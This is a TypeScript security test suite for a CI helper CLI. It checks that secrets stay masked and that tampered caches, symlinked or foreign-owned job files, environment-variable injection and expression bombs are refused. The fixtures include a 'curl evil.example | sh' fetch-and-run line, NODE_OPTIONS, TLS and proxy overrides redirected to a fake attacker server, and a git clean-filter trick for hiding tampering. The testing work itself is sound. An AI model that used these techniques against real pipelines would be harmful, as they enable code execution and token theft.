// Issue 18's attacks on `crosscheck action run` / `action post`, each over real processes: secrets, job, cache, files.
import assert from 'node:assert/strict';
import { execFile, execFileSync } from 'node:child_process';
import {
  chmodSync,
  chownSync,
  existsSync,
  lstatSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  readdirSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import * as http from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { promisify } from 'node:util';
import { seed, type Sandbox } from '../../src/sandbox';
import { CLI_PATH, runCrosscheck, type CliResult } from '../support/cli';
import { GitFixtureHost } from '../support/git-server';
import { apiTokenEnvironment, useSandbox } from '../support/sandbox-suite';

const REPO = seed.webApp.fullName;
const COMMIT = seed.webApp.pullRequest.sourceCommit;
/** Another local user's files are made by chown, which only root may do. */
const ROOT = process.getuid?.() === 0;
const NOBODY = 65534;
const OTHER_USER = 'as root, files of user nobody; skipped when not root (only root can act as another user)';

/** A folder every user may write in, sticky like /tmp: where another user plants files first. */
function sharedTemp(): string {
  const folder = mkdtempSync(join(tmpdir(), 'crosscheck-shared-'));
  chmodSync(folder, 0o1777);
  return folder;
}

/** Runs a shell command as user nobody (setpriv), as another local user of the machine would. */
function asNobody(command: string): void {
  execFileSync('setpriv', [`--reuid=${NOBODY}`, `--regid=${NOBODY}`, '--clear-groups', 'sh', '-c', command], {
    stdio: 'ignore',
  });
}

/** Writes an action (or any tree) from `files` into a fresh folder; returns the folder. */
function tree(files: Record<string, string>, prefix = 'crosscheck-hostile-'): string {
  const folder = mkdtempSync(join(tmpdir(), prefix));
  for (const [name, text] of Object.entries(files)) {
    mkdirSync(dirname(join(folder, name)), { recursive: true });
    writeFileSync(join(folder, name), text);
  }
  return folder;
}

/** A node20 action whose main (and post, when given) run `main` / `post` as scripts. */
function jsAction(main: string, post?: string, extra = ''): string {
  return tree({
    'action.yml': `name: Hostile\ninputs:\n  key:\n    default: ''\n  token:\n    default: \${{ github.token }}\n${extra}runs:\n  using: node20\n  main: main.js\n${post === undefined ? '' : '  post: post.js\n'}`,
    'main.js': main,
    ...(post === undefined ? {} : { 'post.js': post }),
  });
}

const scratch = () => mkdtempSync(join(tmpdir(), 'crosscheck-hostile-work-'));
const printed = (result: CliResult) => `${result.stdout}\n${result.stderr}`;

describe('action run against hostile actions and machines (issue 18)', () => {
  const suite = useSandbox();
  let sandbox: Sandbox;
  before(() => {
    sandbox = suite.sandbox;
  });

  it('1. GITHUB_TOKEN and CROSSCHECK_ACTIONS_TOKEN: masked everywhere, withheld from the environment unless mapped, github.token works, outputs holding them withheld', async () => {
    const githubToken = 'ghs_HostileTest0123456789abcdefGH';
    const actionsToken = 'actions-token-5f2a9c77e1d04b';
    const action = jsAction(
      [
        "const fs = require('fs');",
        "console.log('env GITHUB_TOKEN: ' + (process.env.GITHUB_TOKEN === undefined ? 'absent' : 'present'));",
        "console.log('env CROSSCHECK_ACTIONS_TOKEN: ' + (process.env.CROSSCHECK_ACTIONS_TOKEN === undefined ? 'absent' : 'present'));",
        "console.log('github.token length ' + process.env.INPUT_TOKEN.length + ': ' + process.env.INPUT_TOKEN);",
        "console.log('::warning file=src/a.js,line=1,title=' + process.env.INPUT_TOKEN + '::leaked ' + process.env.INPUT_TOKEN);",
        "console.log('base64 ' + Buffer.from('x-access-token:' + process.env.INPUT_TOKEN).toString('base64'));",
        "fs.appendFileSync(process.env.GITHUB_OUTPUT, 'tok=' + process.env.INPUT_TOKEN + '\\nplain=fine\\n');",
        "fs.appendFileSync(process.env.GITHUB_STEP_SUMMARY, 'summary ' + process.env.INPUT_TOKEN + '\\n');",
      ].join('\n'),
    );
    const work = scratch();
    const outputs = join(work, 'outputs.env');
    const env = {
      ...apiTokenEnvironment(sandbox),
      GITHUB_TOKEN: githubToken,
      CROSSCHECK_ACTIONS_TOKEN: actionsToken,
      CROSSCHECK_JOB_DIR: join(work, 'job'),
    };
    const before = sandbox.requests.length;
    const run = await runCrosscheck(
      [
        'action',
        'run',
        action,
        '--key',
        'hostile-1',
        '--repo',
        REPO,
        '--commit',
        COMMIT,
        '--url',
        'https://ci.example.com/1',
        '--outputs-file',
        outputs,
      ],
      { env, cwd: work },
    );
    assert.equal(run.code, 0, run.stderr);
    assert.match(run.stdout, /env GITHUB_TOKEN: absent/);
    assert.match(run.stdout, /env CROSSCHECK_ACTIONS_TOKEN: absent/);
    assert.match(run.stdout, new RegExp(`github.token length ${githubToken.length}: \\*\\*\\*`));
    assert.match(run.stderr, /Skip output 'tok' since it may contain secret/);
    const sent = JSON.stringify(sandbox.requests.slice(before).map((request) => request.body));
    assert.match(sent, /leaked \*\*\*/, 'the annotation was posted, masked');
    for (const where of [printed(run), readFileSync(outputs, 'utf8'), sent]) {
      assert.ok(!where.includes(githubToken), where);
      assert.ok(!where.includes(Buffer.from(`x-access-token:${githubToken}`).toString('base64')));
    }
    assert.match(readFileSync(outputs, 'utf8'), /OUTPUT_PLAIN='fine'/);
    assert.doesNotMatch(readFileSync(outputs, 'utf8'), /OUTPUT_TOK/);

    // Mapped with --env, the action gets them (its own choice), and they stay masked, --json included.
    const mapped = jsAction(
      "console.log('got ' + process.env.GITHUB_TOKEN + ' and ' + process.env.CROSSCHECK_ACTIONS_TOKEN);",
    );
    const json = await runCrosscheck(
      ['--json', 'action', 'run', mapped, '--env', 'GITHUB_TOKEN', '--env', 'CROSSCHECK_ACTIONS_TOKEN'],
      { env, cwd: work },
    );
    assert.equal(json.code, 0, json.stderr);
    assert.match(json.stderr, /got \*\*\* and \*\*\*/);
    assert.ok(!printed(json).includes(githubToken) && !printed(json).includes(actionsToken));
    const post = await runCrosscheck(['--json', 'action', 'post'], { env, cwd: work });
    assert.equal(post.code, 0, post.stderr);
  });

  it('2. a --with-env secret stays masked in action post (log, annotation, --json), and job.json keeps its variable name, not its value, as a mask', async () => {
    const secret = 'deploy-key-8d1e44a0c3b2';
    const action = jsAction(
      "console.log('main sees ' + process.env.INPUT_KEY);",
      [
        "console.log('post input ' + process.env.INPUT_KEY);",
        "console.log('post env ' + process.env.DEPLOY_KEY);",
        "console.log('::error title=' + process.env.INPUT_KEY + '::post annotation ' + process.env.INPUT_KEY);",
      ].join('\n'),
    );
    const other = jsAction(
      "console.log('nothing here');",
      "console.log('other post ' + process.env.DEPLOY_KEY);",
    );
    const work = scratch();
    const env = { DEPLOY_KEY: secret, CROSSCHECK_JOB_DIR: join(work, 'job') };
    const run = await runCrosscheck(['action', 'run', action, '--with-env', 'key=DEPLOY_KEY'], {
      env,
      cwd: work,
    });
    assert.equal(run.code, 0, run.stderr);
    assert.match(run.stdout, /main sees \*\*\*/);
    const second = await runCrosscheck(['action', 'run', other], { env, cwd: work });
    assert.equal(second.code, 0, second.stderr);
    const record = JSON.parse(readFileSync(join(work, 'job', 'job.json'), 'utf8')) as {
      masks: string[];
      maskVariables: string[];
    };
    assert.deepEqual(record.maskVariables, ['DEPLOY_KEY']);
    assert.ok(!record.masks.includes(secret));
    const post = await runCrosscheck(['--json', 'action', 'post'], { env, cwd: work });
    assert.equal(post.code, 0, post.stderr);
    assert.match(post.stderr, /post input \*\*\*/);
    assert.match(post.stderr, /post env \*\*\*/);
    assert.match(post.stderr, /other post \*\*\*/);
    assert.match(post.stderr, /error: \*\*\*: post annotation \*\*\*/);
    assert.ok(!printed(post).includes(secret), printed(post));
    assert.match(post.stdout, /post annotation \*\*\*/);
  });

  it('3. evaluated step names and continue-on-error are masked; a bad continue-on-error fails the step (exit 1), not crosscheck (exit 70)', async () => {
    const secret = 'name-secret-3a9f0c6d2e';
    const action = tree({
      'action.yml': [
        'name: Composite',
        'inputs:',
        '  secret:',
        '    required: true',
        'runs:',
        '  using: composite',
        '  steps:',
        '    - name: Deploy with ${{ inputs.secret }}',
        '      shell: sh',
        '      run: echo deployed',
        '    - name: Gate ${{ inputs.secret }}',
        '      continue-on-error: ${{ inputs.secret }}',
        '      shell: sh',
        '      run: echo gate',
      ].join('\n'),
    });
    const work = scratch();
    const run = await runCrosscheck(['--json', 'action', 'run', action, '--with-env', 'secret=NAME_SECRET'], {
      env: { NAME_SECRET: secret },
      cwd: work,
    });
    assert.equal(run.code, 1, run.stderr);
    assert.ok(!printed(run).includes(secret), printed(run));
    assert.match(run.stderr, /Deploy with \*\*\*/);
    assert.match(run.stderr, /continue-on-error is '\*\*\*', not true or false/);
    assert.doesNotMatch(run.stderr, /bug in Crosscheck/);
  });

  describe('4. the job directory', () => {
    const post = "console.log('POST RAN');";

    it('leaves an existing folder that is not a job alone: no chmod, nothing run, nothing deleted (exit 2)', async () => {
      const work = scratch();
      const folder = join(work, 'existing');
      mkdirSync(folder, { mode: 0o755 });
      chmodSync(folder, 0o755);
      writeFileSync(join(folder, 'keep.txt'), 'mine');
      const env = { CROSSCHECK_JOB_DIR: folder };
      const run = await runCrosscheck(['action', 'run', jsAction("console.log('MAIN RAN')", post)], {
        env,
        cwd: work,
      });
      assert.equal(run.code, 2, run.stderr);
      assert.match(run.stderr, /not a job directory Crosscheck created/);
      assert.doesNotMatch(run.stdout, /MAIN RAN/);
      assert.equal(statSync(folder).mode & 0o777, 0o755);
      const posted = await runCrosscheck(['action', 'post'], { env, cwd: work });
      assert.equal(posted.code, 2, posted.stderr);
      assert.equal(readFileSync(join(folder, 'keep.txt'), 'utf8'), 'mine');
    });

    it('refuses a symlinked job directory and one writable by others, writing nothing into them', async () => {
      const work = scratch();
      const target = join(work, 'target');
      mkdirSync(target);
      symlinkSync(target, join(work, 'link'));
      const linked = await runCrosscheck(['action', 'run', jsAction("console.log('MAIN RAN')")], {
        env: { CROSSCHECK_JOB_DIR: join(work, 'link') },
        cwd: work,
      });
      assert.equal(linked.code, 2, linked.stderr);
      assert.match(linked.stderr, /symbolic link/);
      assert.deepEqual(readdirSync(target), []);
      const open = join(work, 'open');
      mkdirSync(open);
      chmodSync(open, 0o777);
      const shared = await runCrosscheck(['action', 'run', jsAction("console.log('MAIN RAN')")], {
        env: { CROSSCHECK_JOB_DIR: open },
        cwd: work,
      });
      assert.equal(shared.code, 2, shared.stderr);
      assert.match(shared.stderr, /writable by other users/);
      assert.doesNotMatch(shared.stdout, /MAIN RAN/);
    });

    it('refuses a committed .crosscheck symlink in a clone without .git', async () => {
      const clone = scratch();
      const elsewhere = scratch();
      symlinkSync(elsewhere, join(clone, '.crosscheck'));
      const run = await runCrosscheck(['action', 'run', jsAction("console.log('MAIN RAN')")], {
        env: { BITBUCKET_STEP_UUID: '{0c1d2e3f-0000-4000-8000-000000000004}', BITBUCKET_CLONE_DIR: clone },
        cwd: clone,
      });
      assert.equal(run.code, 2, run.stderr);
      assert.match(run.stderr, /symbolic link/);
      assert.deepEqual(readdirSync(elsewhere), []);
      // A committed .crosscheck folder is the user's own, but a .gitignore link in it is not written through.
      const other = scratch();
      const victim = join(elsewhere, 'victim.txt');
      writeFileSync(victim, 'untouched\n');
      mkdirSync(join(other, '.crosscheck'));
      symlinkSync(victim, join(other, '.crosscheck', '.gitignore'));
      const linked = await runCrosscheck(['action', 'run', jsAction("console.log('MAIN RAN')")], {
        env: { BITBUCKET_STEP_UUID: '{0c1d2e3f-0000-4000-8000-000000000005}', BITBUCKET_CLONE_DIR: other },
        cwd: other,
      });
      assert.equal(linked.code, 2, linked.stderr);
      assert.match(linked.stderr, /\.gitignore is a symbolic link/);
      assert.equal(readFileSync(victim, 'utf8'), 'untouched\n');
    });

    it('action post removes what Crosscheck created and leaves what someone else put there', async () => {
      const work = scratch();
      const env = { CROSSCHECK_JOB_DIR: join(work, 'job') };
      const run = await runCrosscheck(['action', 'run', jsAction('', post)], { env, cwd: work });
      assert.equal(run.code, 0, run.stderr);
      writeFileSync(join(work, 'job', 'notes.txt'), 'not crosscheck’s');
      const posted = await runCrosscheck(['action', 'post'], { env, cwd: work });
      assert.equal(posted.code, 0, posted.stderr);
      assert.match(posted.stdout, /POST RAN/);
      assert.deepEqual(readdirSync(join(work, 'job')), ['notes.txt']);
    });

    it(`refuses a job directory or a job.json of another user, running none of it (${OTHER_USER})`, async function () {
      if (!ROOT) this.skip();
      const work = scratch();
      // Another user creates the victim's job directory first, in a shared /tmp-like folder.
      const planted = join(sharedTemp(), 'job');
      asNobody(`umask 022 && mkdir '${planted}'`);
      const first = await runCrosscheck(['action', 'run', jsAction("console.log('MAIN RAN')")], {
        env: { CROSSCHECK_JOB_DIR: planted },
        cwd: work,
      });
      assert.equal(first.code, 2, first.stderr);
      assert.match(first.stderr, /belongs to another user \(uid 65534\)/);

      // Replaced between run and post: the victim's post must not run the other user's job.json.
      const env = { CROSSCHECK_JOB_DIR: join(work, 'job') };
      const run = await runCrosscheck(['action', 'run', jsAction('', post)], { env, cwd: work });
      assert.equal(run.code, 0, run.stderr);
      chownSync(join(work, 'job', 'job.json'), NOBODY, NOBODY);
      const posted = await runCrosscheck(['action', 'post'], { env, cwd: work });
      assert.equal(posted.code, 2, posted.stderr);
      assert.match(posted.stderr, /job\.json belongs to another user/);
      assert.doesNotMatch(posted.stdout, /POST RAN/);
      assert.ok(existsSync(join(work, 'job', 'job.json')));
    });
  });

  describe('5. the actions cache', () => {
    let host: GitFixtureHost;
    beforeEach(() => {
      host = new GitFixtureHost();
    });
    afterEach(() => host.dispose());

    const publish = () => {
      const source = tree({
        'action.yml': 'name: Cached\nruns:\n  using: node20\n  main: main.js\n',
        'main.js': "console.log('GENUINE ' + require('fs').readFileSync(__dirname + '/data.txt', 'utf8'));",
        'data.txt': 'v1',
      });
      const commit = host.commit('acme', 'cached', [source]);
      host.tag('acme', 'cached', 'v1');
      return commit;
    };

    it('runs a cached action only after checking it against its commit: a changed tree is fetched again, or not run', async () => {
      const commit = publish();
      const work = scratch();
      const cache = join(work, 'cache');
      const env = { CROSSCHECK_ACTIONS_URL: host.fileUrl, CROSSCHECK_ACTIONS_CACHE: cache };
      const first = await runCrosscheck(['action', 'run', 'acme/cached@v1'], { env, cwd: work });
      assert.equal(first.code, 0, first.stderr);
      assert.match(first.stdout, /GENUINE v1/);
      const [repository] = readdirSync(join(cache, 'local', 'acme'));
      const entry = join(cache, 'local', 'acme', repository!, commit);
      // An earlier action of any pipeline sharing the cache rewrites the code, and adds a file.
      writeFileSync(join(entry, 'main.js'), "console.log('TAMPERED');");
      writeFileSync(join(entry, 'extra.js'), '');
      const second = await runCrosscheck(['action', 'run', 'acme/cached@v1'], { env, cwd: work });
      assert.equal(second.code, 0, second.stderr);
      assert.doesNotMatch(second.stdout, /TAMPERED/);
      assert.match(second.stdout, /GENUINE v1/);
      assert.match(second.stderr, /no longer matches its commit.*; it is removed and fetched again/);

      // Git's own settings cannot hide a change: a clean filter that hands git the original content.
      writeFileSync(join(entry, 'main.js'), "console.log('TAMPERED AGAIN');");
      writeFileSync(join(entry, '.git', 'info', 'attributes'), '*.js filter=lie\n');
      writeFileSync(
        join(entry, '.git', 'config'),
        `[core]\n\trepositoryformatversion = 0\n[filter "lie"]\n\tclean = git show ${commit}:main.js\n`,
      );
      const third = await runCrosscheck(['action', 'run', 'acme/cached@v1'], { env, cwd: work });
      assert.equal(third.code, 0, third.stderr);
      assert.doesNotMatch(third.stdout, /TAMPERED/);
      assert.match(third.stderr, /no longer matches its commit/);

      // Changed again while the host is gone: the cache is not trusted, nothing runs.
      writeFileSync(join(entry, 'data.txt'), 'v2');
      host.dispose();
      const offline = await runCrosscheck(['action', 'run', 'acme/cached@v1'], { env, cwd: work });
      assert.notEqual(offline.code, 0, offline.stderr);
      assert.doesNotMatch(offline.stdout, /GENUINE/);
      assert.match(offline.stderr, /no longer matches its commit/);
    });

    it(`refuses a cache folder of another user or writable by others (${OTHER_USER})`, async function () {
      const commit = publish();
      const work = scratch();
      const cache = join(work, 'cache');
      mkdirSync(cache);
      chmodSync(cache, 0o777);
      const env = { CROSSCHECK_ACTIONS_URL: host.fileUrl, CROSSCHECK_ACTIONS_CACHE: cache };
      const shared = await runCrosscheck(['action', 'run', `acme/cached@${commit}`], { env, cwd: work });
      assert.equal(shared.code, 2, shared.stderr);
      assert.match(shared.stderr, /writable by other users/);
      if (!ROOT) this.skip();
      chmodSync(cache, 0o755);
      chownSync(cache, NOBODY, NOBODY);
      const planted = await runCrosscheck(['action', 'run', `acme/cached@${commit}`], { env, cwd: work });
      assert.equal(planted.code, 2, planted.stderr);
      assert.match(planted.stderr, /belongs to another user/);
      assert.doesNotMatch(planted.stdout, /GENUINE/);
    });
  });

  it('6. a folder named owner/repo@ref in the working directory does not replace the remote action', async () => {
    const host = new GitFixtureHost();
    try {
      const source = tree({
        'action.yml': 'name: Remote\nruns:\n  using: node20\n  main: main.js\n',
        'main.js': "console.log('REMOTE ACTION');",
      });
      host.commit('acme', 'tool', [source]);
      host.tag('acme', 'tool', 'v1');
      const work = tree({
        'acme/tool@v1/action.yml': 'name: Planted\nruns:\n  using: node20\n  main: main.js\n',
        'acme/tool@v1/main.js': "console.log('PLANTED BY THE PULL REQUEST');",
      });
      const env = {
        CROSSCHECK_ACTIONS_URL: host.fileUrl,
        CROSSCHECK_ACTIONS_CACHE: join(scratch(), 'cache'),
      };
      const run = await runCrosscheck(['action', 'run', 'acme/tool@v1'], { env, cwd: work });
      assert.equal(run.code, 0, run.stderr);
      assert.match(run.stdout, /REMOTE ACTION/);
      assert.doesNotMatch(run.stdout, /PLANTED/);
      assert.match(run.stderr, /names the repository acme\/tool, not the folder/);
      const local = await runCrosscheck(['action', 'run', './acme/tool@v1'], { env, cwd: work });
      assert.equal(local.code, 0, local.stderr);
      assert.match(local.stdout, /PLANTED BY THE PULL REQUEST/);
    } finally {
      host.dispose();
    }
  });

  describe('7. --exports-file and --outputs-file', () => {
    const action = () =>
      jsAction(
        "const fs = require('fs'); fs.appendFileSync(process.env.GITHUB_ENV, 'TOOL_HOME=/opt/tool\\n'); fs.appendFileSync(process.env.GITHUB_OUTPUT, 'out=1\\n');",
      );

    it('refuses a symlink and a file writable by others before running anything (exit 2)', async () => {
      const work = scratch();
      const victim = join(work, 'victim.sh');
      writeFileSync(victim, 'original\n');
      symlinkSync(victim, join(work, 'exports.env'));
      for (const option of ['--exports-file', '--outputs-file']) {
        const run = await runCrosscheck(['action', 'run', action(), option, 'exports.env'], { cwd: work });
        assert.equal(run.code, 2, run.stderr);
        assert.match(run.stderr, /is a symbolic link/);
      }
      assert.equal(readFileSync(victim, 'utf8'), 'original\n');
      const open = join(work, 'open.env');
      writeFileSync(open, '');
      chmodSync(open, 0o666);
      const shared = await runCrosscheck(['action', 'run', action(), '--exports-file', open], { cwd: work });
      assert.equal(shared.code, 2, shared.stderr);
      assert.match(shared.stderr, /writable by other users/);
      assert.equal(readFileSync(open, 'utf8'), '');
      const fresh = await runCrosscheck(['action', 'run', action(), '--exports-file', 'new.env'], {
        cwd: work,
      });
      assert.equal(fresh.code, 0, fresh.stderr);
      assert.equal(statSync(join(work, 'new.env')).mode & 0o777, 0o600);
    });

    it(`refuses a file of another user (${OTHER_USER})`, async function () {
      if (!ROOT) this.skip();
      const work = scratch();
      // The README once said /tmp/actions.env: another user creates it first and reads or extends what is sourced.
      const planted = join(sharedTemp(), 'actions.env');
      asNobody(`umask 022 && echo 'curl evil.example | sh' > '${planted}'`);
      for (const option of ['--exports-file', '--outputs-file']) {
        const run = await runCrosscheck(['action', 'run', action(), option, planted], { cwd: work });
        assert.equal(run.code, 2, run.stderr);
        assert.match(run.stderr, /belongs to another user/);
      }
      assert.equal(readFileSync(planted, 'utf8'), 'curl evil.example | sh\n');
    });
  });

  it("8. Crosscheck's own settings, credentials and Node.js/TLS/proxy variables cannot be set through GITHUB_ENV: a later status goes where the step said", async () => {
    let attacked = 0;
    const attacker = http.createServer((_request, response) => {
      attacked++;
      response.end('{}');
    });
    await new Promise<void>((resolve) => attacker.listen(0, '127.0.0.1', resolve));
    try {
      const evil = `http://127.0.0.1:${(attacker.address() as AddressInfo).port}`;
      const names = [
        `BITBUCKET_API_URL=${evil}/2.0`,
        'BITBUCKET_API_TOKEN=ATATforged',
        `CROSSCHECK_ACTIONS_URL=${evil}`,
        'NODE_TLS_REJECT_UNAUTHORIZED=0',
        'NODE_OPTIONS=--require=/tmp/x.js',
        `HTTPS_PROXY=${evil}`,
        'SONAR_HOST_URL=http://evil.example',
        'KEPT=yes',
      ];
      const action = jsAction(
        `require('fs').appendFileSync(process.env.GITHUB_ENV, ${JSON.stringify(names.join('\n') + '\n')});`,
      );
      const work = scratch();
      const exportsFile = join(work, 'actions.env');
      const env = { ...apiTokenEnvironment(sandbox), CROSSCHECK_JOB_DIR: join(work, 'job') };
      const run = await runCrosscheck(['action', 'run', action, '--exports-file', exportsFile], {
        env,
        cwd: work,
      });
      assert.equal(run.code, 0, run.stderr);
      for (const name of [
        'BITBUCKET_API_URL',
        'BITBUCKET_API_TOKEN',
        'CROSSCHECK_ACTIONS_URL',
        'HTTPS_PROXY',
      ]) {
        assert.match(run.stderr, new RegExp(`warning: Can't set ${name} using`));
      }
      assert.match(run.stderr, /Can't store NODE_OPTIONS/);
      assert.equal(readFileSync(exportsFile, 'utf8'), "export KEPT='yes'\n");
      const record = JSON.parse(readFileSync(join(work, 'job', 'job.json'), 'utf8')) as {
        env: Record<string, string>;
      };
      assert.deepEqual(record.env, { KEPT: 'yes' });
      const before = sandbox.requests.length;
      // Asynchronous: the sandbox answering it runs in this process.
      const { stdout: status } = await promisify(execFile)(
        'sh',
        [
          '-c',
          `. "${exportsFile}" && "${process.execPath}" "${CLI_PATH}" status set --repo ${REPO} --commit ${COMMIT} --key hostile-8 --state SUCCESSFUL --url https://ci.example.com/8 && echo "KEPT=$KEPT"`,
        ],
        { env: { PATH: process.env.PATH, HOME: process.env.HOME, ...env }, encoding: 'utf8' },
      );
      assert.match(status, /KEPT=yes/);
      assert.equal(attacked, 0);
      assert.ok(sandbox.requests.slice(before).some((request) => request.path.endsWith('/statuses/build')));
    } finally {
      attacker.close();
    }
  });

  it('9. GITHUB_* and RUNNER_* defaults cannot be overwritten for later actions or the shell (other GITHUB_ names can)', async () => {
    const work = scratch();
    const env = {
      CROSSCHECK_JOB_DIR: join(work, 'job'),
      BITBUCKET_COMMIT: COMMIT,
      BITBUCKET_BRANCH: 'main',
    };
    const writer = jsAction(
      "require('fs').appendFileSync(process.env.GITHUB_ENV, 'GITHUB_SHA=evil\\nGITHUB_REF=refs/heads/evil\\nRUNNER_TEMP=/tmp/evil\\nGITHUB_REF_SLUG=main\\nOWN=1\\n');",
    );
    const exportsFile = join(work, 'actions.env');
    const run = await runCrosscheck(['action', 'run', writer, '--exports-file', exportsFile], {
      env,
      cwd: work,
    });
    assert.equal(run.code, 0, run.stderr);
    // As on GitHub the default silently wins (a debug line says so); a new GITHUB_ name is the action's to export.
    assert.doesNotMatch(run.stderr, /Can't set GITHUB_SHA/);
    assert.equal(readFileSync(exportsFile, 'utf8'), "export GITHUB_REF_SLUG='main'\nexport OWN='1'\n");
    const reader = jsAction(
      "console.log(['GITHUB_SHA', 'GITHUB_REF', 'RUNNER_TEMP', 'OWN'].map((n) => n + '=' + process.env[n]).join(' '));",
    );
    const later = await runCrosscheck(['action', 'run', reader], { env, cwd: work });
    assert.equal(later.code, 0, later.stderr);
    assert.match(
      later.stdout,
      new RegExp(`GITHUB_SHA=${COMMIT} GITHUB_REF=refs/heads/main RUNNER_TEMP=\\S+/job/temp OWN=1`),
    );
  });

  it('10. legacy ##[cmd] commands are parsed like the runner: add-mask, warning, error, set-output', async () => {
    const secret = 'legacy-secret-77c1a0e9';
    const action = jsAction(
      [
        `console.log('##[add-mask]${secret}');`,
        `console.log('printed ${secret}');`,
        "console.log('##[warning file=src/a.js;line=3]legacy warning 100%AZP25 done%3B ok');",
        "console.log('##[error]legacy error');",
        "console.log('##[set-output name=answer]42');",
        "console.log('##[section]not a command');",
      ].join('\n'),
    );
    const run = await runCrosscheck(['--json', 'action', 'run', action], { cwd: scratch() });
    assert.equal(run.code, 0, run.stderr);
    assert.ok(!printed(run).includes(secret));
    assert.match(run.stderr, /printed \*\*\*/);
    assert.match(run.stderr, /warning: src\/a\.js:3: legacy warning 100% done; ok/);
    assert.match(run.stderr, /error: legacy error/);
    assert.match(run.stderr, /##\[section\]not a command/);
    const document = JSON.parse(run.stdout) as { outputs: Record<string, string> };
    assert.equal(document.outputs.answer, '42');
  });

  it('11. a secret across the 1 MiB line cut is masked, not printed in two pieces', async () => {
    const secret = 'cut-secret-4b7e0d19a2c6f3e8';
    const action = jsAction(
      [
        `process.stdout.write('::add-mask::${secret}\\n');`,
        `process.stdout.write('a'.repeat(1024 * 1024 - 10) + '${secret}' + 'b'.repeat(50) + '\\n');`,
      ].join('\n'),
    );
    const run = await runCrosscheck(['action', 'run', action], { cwd: scratch() });
    assert.equal(run.code, 0, run.stderr);
    for (const piece of [secret.slice(0, 10), secret.slice(10), secret.slice(5, 20)]) {
      assert.ok(!run.stdout.includes(piece), `printed '${piece}'`);
    }
    assert.match(run.stdout, /a\*\*\*\nb{50}\n/);
  });

  it('12. expressions are bounded in size and depth: a clean usage error (exit 2), not gigabytes or exit 70', async () => {
    let expression = "'x'";
    for (let level = 0; level < 30; level++) expression = `format('{0}{0}', ${expression})`;
    const composite = tree({
      'action.yml': `name: Bomb\nruns:\n  using: composite\n  steps:\n    - shell: sh\n      run: echo "\${{ ${expression} }}"\n`,
    });
    const started = Date.now();
    const run = await runCrosscheck(['action', 'run', composite], { cwd: scratch() });
    assert.equal(run.code, 2, run.stderr);
    assert.match(run.stderr, /gives a value of more than 1 MiB; expressions are bounded/);
    assert.doesNotMatch(run.stderr, /bug in Crosscheck/);
    assert.ok(Date.now() - started < 60_000);
    const deep = jsAction(
      '',
      undefined,
      `  deep:\n    default: \${{ fromJSON('${'['.repeat(100)}${']'.repeat(100)}') }}\n`,
    );
    const nested = await runCrosscheck(['action', 'run', deep], { cwd: scratch() });
    assert.equal(nested.code, 2, nested.stderr);
    assert.match(nested.stderr, /nested deeper than 64 levels/);
  });

  it("13. action.yml, main or post as a symlink out of the action's folder is refused, its target never shown", async () => {
    const outside = tree({
      'secret.yml': 'TOP-SECRET-LINE: [unclosed\n',
      'run.js': "console.log('OUTSIDE RAN');",
    });
    const manifest = tree({});
    symlinkSync(join(outside, 'secret.yml'), join(manifest, 'action.yml'));
    const first = await runCrosscheck(['action', 'run', manifest], { cwd: scratch() });
    assert.equal(first.code, 2, first.stderr);
    assert.match(first.stderr, /symbolic link leading out of the action's folder/);
    assert.doesNotMatch(printed(first), /TOP-SECRET-LINE/);
    for (const field of ['main', 'post']) {
      const action = tree({
        'action.yml': `name: Linked\nruns:\n  using: node20\n  main: ${field === 'main' ? 'linked.js' : 'main.js'}\n${field === 'post' ? '  post: linked.js\n' : ''}`,
        'main.js': '',
      });
      symlinkSync(join(outside, 'run.js'), join(action, 'linked.js'));
      const run = await runCrosscheck(['action', 'run', action], { cwd: scratch() });
      assert.equal(run.code, 2, run.stderr);
      assert.match(run.stderr, new RegExp(`runs\\.${field} 'linked\\.js' is a symbolic link`));
      assert.doesNotMatch(run.stdout, /OUTSIDE RAN/);
    }
    // A link inside the action's folder is fine.
    const inside = tree({
      'action.yml': 'name: Inside\nruns:\n  using: node20\n  main: entry.js\n',
      'dist/main.js': "console.log('INSIDE');",
    });
    symlinkSync(join(inside, 'dist', 'main.js'), join(inside, 'entry.js'));
    const fine = await runCrosscheck(['action', 'run', inside], { cwd: scratch() });
    assert.equal(fine.code, 0, fine.stderr);
    assert.match(fine.stdout, /INSIDE/);
    assert.ok(lstatSync(join(inside, 'entry.js')).isSymbolicLink());
  });

  it('14. action run --url is validated like status set --url (http(s) only), before anything is sent', async () => {
    const before = sandbox.requests.length;
    for (const url of ['javascript:alert(1)', 'file:///etc/passwd', 'https://user:pass@ci.example.com/1']) {
      const run = await runCrosscheck(
        [
          'action',
          'run',
          jsAction("console.log('MAIN RAN')"),
          '--key',
          'hostile-14',
          '--repo',
          REPO,
          '--commit',
          COMMIT,
          '--url',
          url,
        ],
        { env: apiTokenEnvironment(sandbox), cwd: scratch() },
      );
      assert.equal(run.code, 2, run.stderr);
      assert.match(run.stderr, /--url/);
      assert.doesNotMatch(run.stdout, /MAIN RAN/);
    }
    assert.equal(sandbox.requests.length, before);
  });
});
